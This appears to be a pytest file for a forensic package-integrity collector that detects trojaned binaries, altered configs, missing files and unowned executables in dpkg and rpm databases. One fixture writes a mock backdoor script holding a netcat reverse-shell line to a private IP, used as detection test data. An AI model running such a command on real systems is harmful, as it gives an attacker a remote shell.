"""Package integrity read from the package databases of a fake root: a trojaned binary against dpkg's
md5sums, a changed configuration file told apart, a missing file, an rpm sqlite database decoded here,
and an executable in PATH that no package owns."""
from __future__ import annotations

import hashlib
import os
import sqlite3
import struct

from collectors.artifacts.package_integrity import (
    IntegritySummary,
    PackageFileCheck,
    PackageIntegrity,
    UnownedExecutable,
    parse_rpm_header,
)

GOOD = b"\x7fELF original coreutils ls\n"
EVIL = b"\x7fELF trojaned ls that hides files\n"


def md5(b: bytes) -> str:
    return hashlib.md5(b).hexdigest()


def dpkg_root(root):
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (root / "usr/bin").mkdir(parents=True)
    (root / "etc/ssh").mkdir(parents=True)
    (root / "usr/bin/ls").write_bytes(EVIL)
    (root / "usr/bin/cat").write_bytes(b"cat binary")
    (root / "usr/bin/backdoor").write_bytes(b"#!/bin/sh\nnc -e /bin/sh 10.0.0.9 4444\n")
    for n in ("ls", "cat", "backdoor"):
        os.chmod(root / "usr/bin" / n, 0o755)
    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin yes\n")
    (info / "coreutils.md5sums").write_text(
        f"{md5(GOOD)}  usr/bin/ls\n{md5(b'cat binary')}  usr/bin/cat\n{md5(b'gone')}  usr/bin/gone\n")
    (info / "coreutils.list").write_text("/usr\n/usr/bin\n/usr/bin/ls\n/usr/bin/cat\n/usr/bin/gone\n")
    (info / "openssh-server.list").write_text("/etc/ssh/sshd_config\n")
    (root / "var/lib/dpkg/status").write_text(
        "Package: coreutils\nStatus: install ok installed\nVersion: 9.1-1\n\n"
        "Package: openssh-server\nStatus: install ok installed\nConffiles:\n"
        f" /etc/ssh/sshd_config {md5(b'PermitRootLogin no' + bytes([10]))}\n /etc/ssh/moduli obsolete\n"
        "Version: 1:9.2p1-2\n")


def test_dpkg_trojan_config_missing_unowned(tmp_path, run):
    root = tmp_path / "root"
    dpkg_root(root)
    ran = run(PackageIntegrity(), root=root)
    rows = {r.path: r for r in ran.rows("package_files.json", PackageFileCheck)}
    ls = rows["/usr/bin/ls"]
    assert (ls.status, ls.config, ls.package, ls.expected, ls.actual) == (
        "changed", False, "coreutils", md5(GOOD), md5(EVIL))
    assert ls.sha256 == hashlib.sha256(EVIL).hexdigest()
    assert rows["/etc/ssh/sshd_config"].status == "changed" and rows["/etc/ssh/sshd_config"].config is True
    assert rows["/usr/bin/gone"].status == "missing"
    assert "/usr/bin/cat" not in rows  # matches its digest
    (summary,) = ran.rows("package_integrity_summary.json", IntegritySummary)
    assert (summary.files_checked, summary.matched, summary.changed, summary.config_changed, summary.missing) == \
        (4, 1, 1, 1, 1)
    unowned = {u.path: u for u in ran.rows("unowned_executables.json", UnownedExecutable)}
    assert set(unowned) == {"/usr/bin/backdoor"}
    assert unowned["/usr/bin/backdoor"].sha256 == hashlib.sha256(
        b"#!/bin/sh\nnc -e /bin/sh 10.0.0.9 4444\n").hexdigest()


def rpm_header(tags: dict[int, tuple[int, object]]) -> bytes:
    """An rpm header blob as rpmdb.sqlite stores it (tag -> (type, value))."""
    index, data = [], b""
    for tag, (typ, val) in sorted(tags.items()):
        if typ == 4:
            while len(data) % 4:
                data += b"\0"
        off = len(data)
        if typ == 6:
            data += val.encode() + b"\0"
            cnt = 1
        elif typ == 8:
            data += b"".join(v.encode() + b"\0" for v in val)
            cnt = len(val)
        else:
            data += struct.pack(f">{len(val)}I", *val)
            cnt = len(val)
        index.append(struct.pack(">IIiI", tag, typ, off, cnt))
    return struct.pack(">II", len(index), len(data)) + b"".join(index) + data


def test_rpm_sqlite_database(tmp_path, run):
    root = tmp_path / "root"
    (root / "usr/bin").mkdir(parents=True)
    (root / "etc").mkdir()
    (root / "var/lib/rpm").mkdir(parents=True)
    (root / "usr/bin/sshd").write_bytes(b"patched sshd with a master password")
    (root / "etc/sshd_config").write_text("changed\n")
    sha = lambda b: hashlib.sha256(b).hexdigest()  # noqa: E731
    blob = rpm_header({1000: (6, "openssh-server"), 1116: (4, [0, 1]), 1117: (8, ["sshd", "sshd_config"]),
                       1118: (8, ["/usr/bin/", "/etc/"]), 1035: (8, [sha(b"real sshd"), sha(b"orig\n")]),
                       1037: (4, [0, 1]), 5011: (4, [8])})
    assert parse_rpm_header(blob)[1117] == ["sshd", "sshd_config"]
    con = sqlite3.connect(root / "var/lib/rpm/rpmdb.sqlite")
    con.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
    con.execute("INSERT INTO Packages (blob) VALUES (?)", (blob,))
    con.commit()
    con.close()
    before = sorted(os.listdir(root / "var/lib/rpm"))
    ran = run(PackageIntegrity(), root=root)
    rows = {r.path: r for r in ran.rows("package_files.json", PackageFileCheck)}
    assert rows["/usr/bin/sshd"].status == "changed" and rows["/usr/bin/sshd"].algorithm == "sha256"
    assert rows["/usr/bin/sshd"].actual == sha(b"patched sshd with a master password")
    assert rows["/etc/sshd_config"].config is True
    assert sorted(os.listdir(root / "var/lib/rpm")) == before  # no -wal/-shm written beside the evidence


def test_diversions_merged_usr_takeover_obsolete_and_scope(tmp_path, run):
    """The false alarms of a real Debian: a diverted file (pg_config), /bin/x and /usr/bin/x named by two
    packages through the /bin -> usr/bin link, an md5sums entry of a file another package took over, an
    obsolete conffile, and an npm self-update under /usr/lib/node_modules (out of the default scope)."""
    root = tmp_path / "root"
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (root / "usr/bin").mkdir(parents=True)
    (root / "usr/lib/node_modules/npm/lib").mkdir(parents=True)
    (root / "usr/lib/x86_64-linux-gnu").mkdir(parents=True)
    os.symlink("usr/bin", root / "bin")
    os.symlink("usr/lib", root / "lib")
    libpq_cfg, common_cfg = b"#!/bin/sh\necho libpq pg_config\n", b"#!/usr/bin/perl\n# wrapper\n"
    (root / "usr/bin/pg_config").write_bytes(common_cfg)
    (root / "usr/bin/pg_config.libpq-dev").write_bytes(libpq_cfg)
    (root / "usr/bin/kmod").write_bytes(b"kmod new")
    (root / "usr/bin/ls").write_bytes(GOOD)
    (root / "usr/lib/x86_64-linux-gnu/libz.so.1").write_bytes(b"zlib new")
    (root / "usr/lib/node_modules/npm/lib/cli.js").write_text("// npm 11, installed by npm itself\n")
    for n in ("pg_config", "pg_config.libpq-dev", "kmod", "ls"):
        os.chmod(root / "usr/bin" / n, 0o755)
    (root / "var/lib/dpkg/diversions").write_text(
        "/usr/bin/pg_config\n/usr/bin/pg_config.libpq-dev\npostgresql-common\n")
    (info / "libpq-dev.md5sums").write_text(f"{md5(libpq_cfg)}  usr/bin/pg_config\n")
    (info / "libpq-dev.list").write_text("/usr/bin/pg_config\n")
    (info / "postgresql-common.md5sums").write_text(f"{md5(common_cfg)}  usr/bin/pg_config\n")
    (info / "postgresql-common.list").write_text("/usr/bin/pg_config\n")
    # kmod moved from /bin to /usr/bin between package versions: both names, one file, two digests
    (info / "kmod.md5sums").write_text(f"{md5(b'kmod old')}  bin/kmod\n{md5(b'kmod new')}  usr/bin/kmod\n")
    (info / "kmod.list").write_text("/bin/kmod\n/usr/bin/kmod\n")
    (info / "coreutils.md5sums").write_text(f"{md5(GOOD)}  bin/ls\n")
    (info / "coreutils.list").write_text("/bin/ls\n")
    # zlib1g's library was taken over by libz-ng (zlib1g.list no longer names it); its md5sums still does
    (info / "zlib1g.md5sums").write_text(f"{md5(b'zlib old')}  lib/x86_64-linux-gnu/libz.so.1\n")
    (info / "zlib1g.list").write_text("/lib/x86_64-linux-gnu\n")
    (info / "libz-ng.md5sums").write_text(f"{md5(b'zlib new')}  usr/lib/x86_64-linux-gnu/libz.so.1\n")
    (info / "libz-ng.list").write_text("/usr/lib/x86_64-linux-gnu/libz.so.1\n")
    (info / "nodejs.md5sums").write_text(f"{md5(b'// npm 10')}  usr/lib/node_modules/npm/lib/cli.js\n")
    (info / "nodejs.list").write_text("/usr/lib/node_modules/npm/lib/cli.js\n")
    (root / "var/lib/dpkg/status").write_text(
        "Package: procps\nStatus: install ok installed\nConffiles:\n"
        f" /etc/init.d/procps {md5(b'x')} obsolete\n /etc/dpkg/dpkg.cfg.d/hook newconffile remove-on-upgrade\n"
        "Version: 2:4.0.2-3\n")
    ran = run(PackageIntegrity(), root=root)
    assert ran.rows("package_files.json", PackageFileCheck) == []
    (summary,) = ran.rows("package_integrity_summary.json", IntegritySummary)
    assert (summary.scope, summary.diverted, summary.superseded, summary.obsolete_conffiles) == \
        ("binaries", 1, 1, 2)
    assert (summary.files_checked, summary.matched, summary.out_of_scope, summary.shared) == (5, 5, 1, 1)
    assert any("package_scope=all" in n for n in ran.notes)
    assert {u.path for u in ran.rows("unowned_executables.json", UnownedExecutable)} == set()

    ran = run(PackageIntegrity(), root=root, options={"package_scope": "all"})
    (npm,) = ran.rows("package_files.json", PackageFileCheck)
    assert (npm.path, npm.status, npm.kind, npm.package) == (
        "/usr/lib/node_modules/npm/lib/cli.js", "changed", "data", "nodejs")

    (root / "usr/bin/kmod").write_bytes(b"kmod trojan")
    ran = run(PackageIntegrity(), root=root)
    (kmod,) = ran.rows("package_files.json", PackageFileCheck)
    assert (kmod.checked_path, kmod.kind, kmod.status, kmod.owners) == ("/usr/bin/kmod", "program", "changed", [])
    assert kmod.path in ("/bin/kmod", "/usr/bin/kmod")
    assert kmod.extra["expected_any"] == sorted([md5(b"kmod old"), md5(b"kmod new")])


def test_file_kinds_and_old_records():
    """The kind of a package file decides the scope and the severity; a version 1 record (no kind) is
    read with the kind its path gives."""
    from collectors import records
    from collectors.artifacts.package_integrity import file_kind
    assert file_kind("/usr/bin/ls") == "program"
    assert file_kind("/usr/lib/x86_64-linux-gnu/libc.so.6") == "library"
    assert file_kind("/lib/modules/6.1.0-18-amd64/kernel/fs/ext4/ext4.ko.xz") == "library"
    assert file_kind("/usr/lib/x86_64-linux-gnu/security/pam_unix.so") == "library"
    assert file_kind("/usr/lib/python3/dist-packages/apt/cache.py") == "module"
    assert file_kind("/usr/lib/systemd/system/ssh.service") == "startup"
    assert file_kind("/etc/ssh/sshd_config", config=True) == "config"
    assert file_kind("/usr/lib/git-core/git-daemon", 0o100755) == "program"
    assert file_kind("/usr/lib/git-core/git-daemon", 0o100644) == "data"
    assert file_kind("/usr/share/doc/bash/README.gz") == "data"
    assert file_kind("/usr/lib/node_modules/npm/bin/npm-cli.js", 0o100755) == "data"
    assert file_kind("/usr/lib/google-cloud-sdk/lib/third_party/certifi/cacert.pem") == "data"
    old = {"schema": "package_file_check", "version": 1, "records": [
        {"path": "/usr/bin/ps", "package": "procps", "manager": "dpkg", "status": "changed", "expected": "a" * 32}]}
    (r,) = records.load(old, PackageFileCheck)
    assert (r.kind, r.checked_path, r.owners) == ("program", None, [])
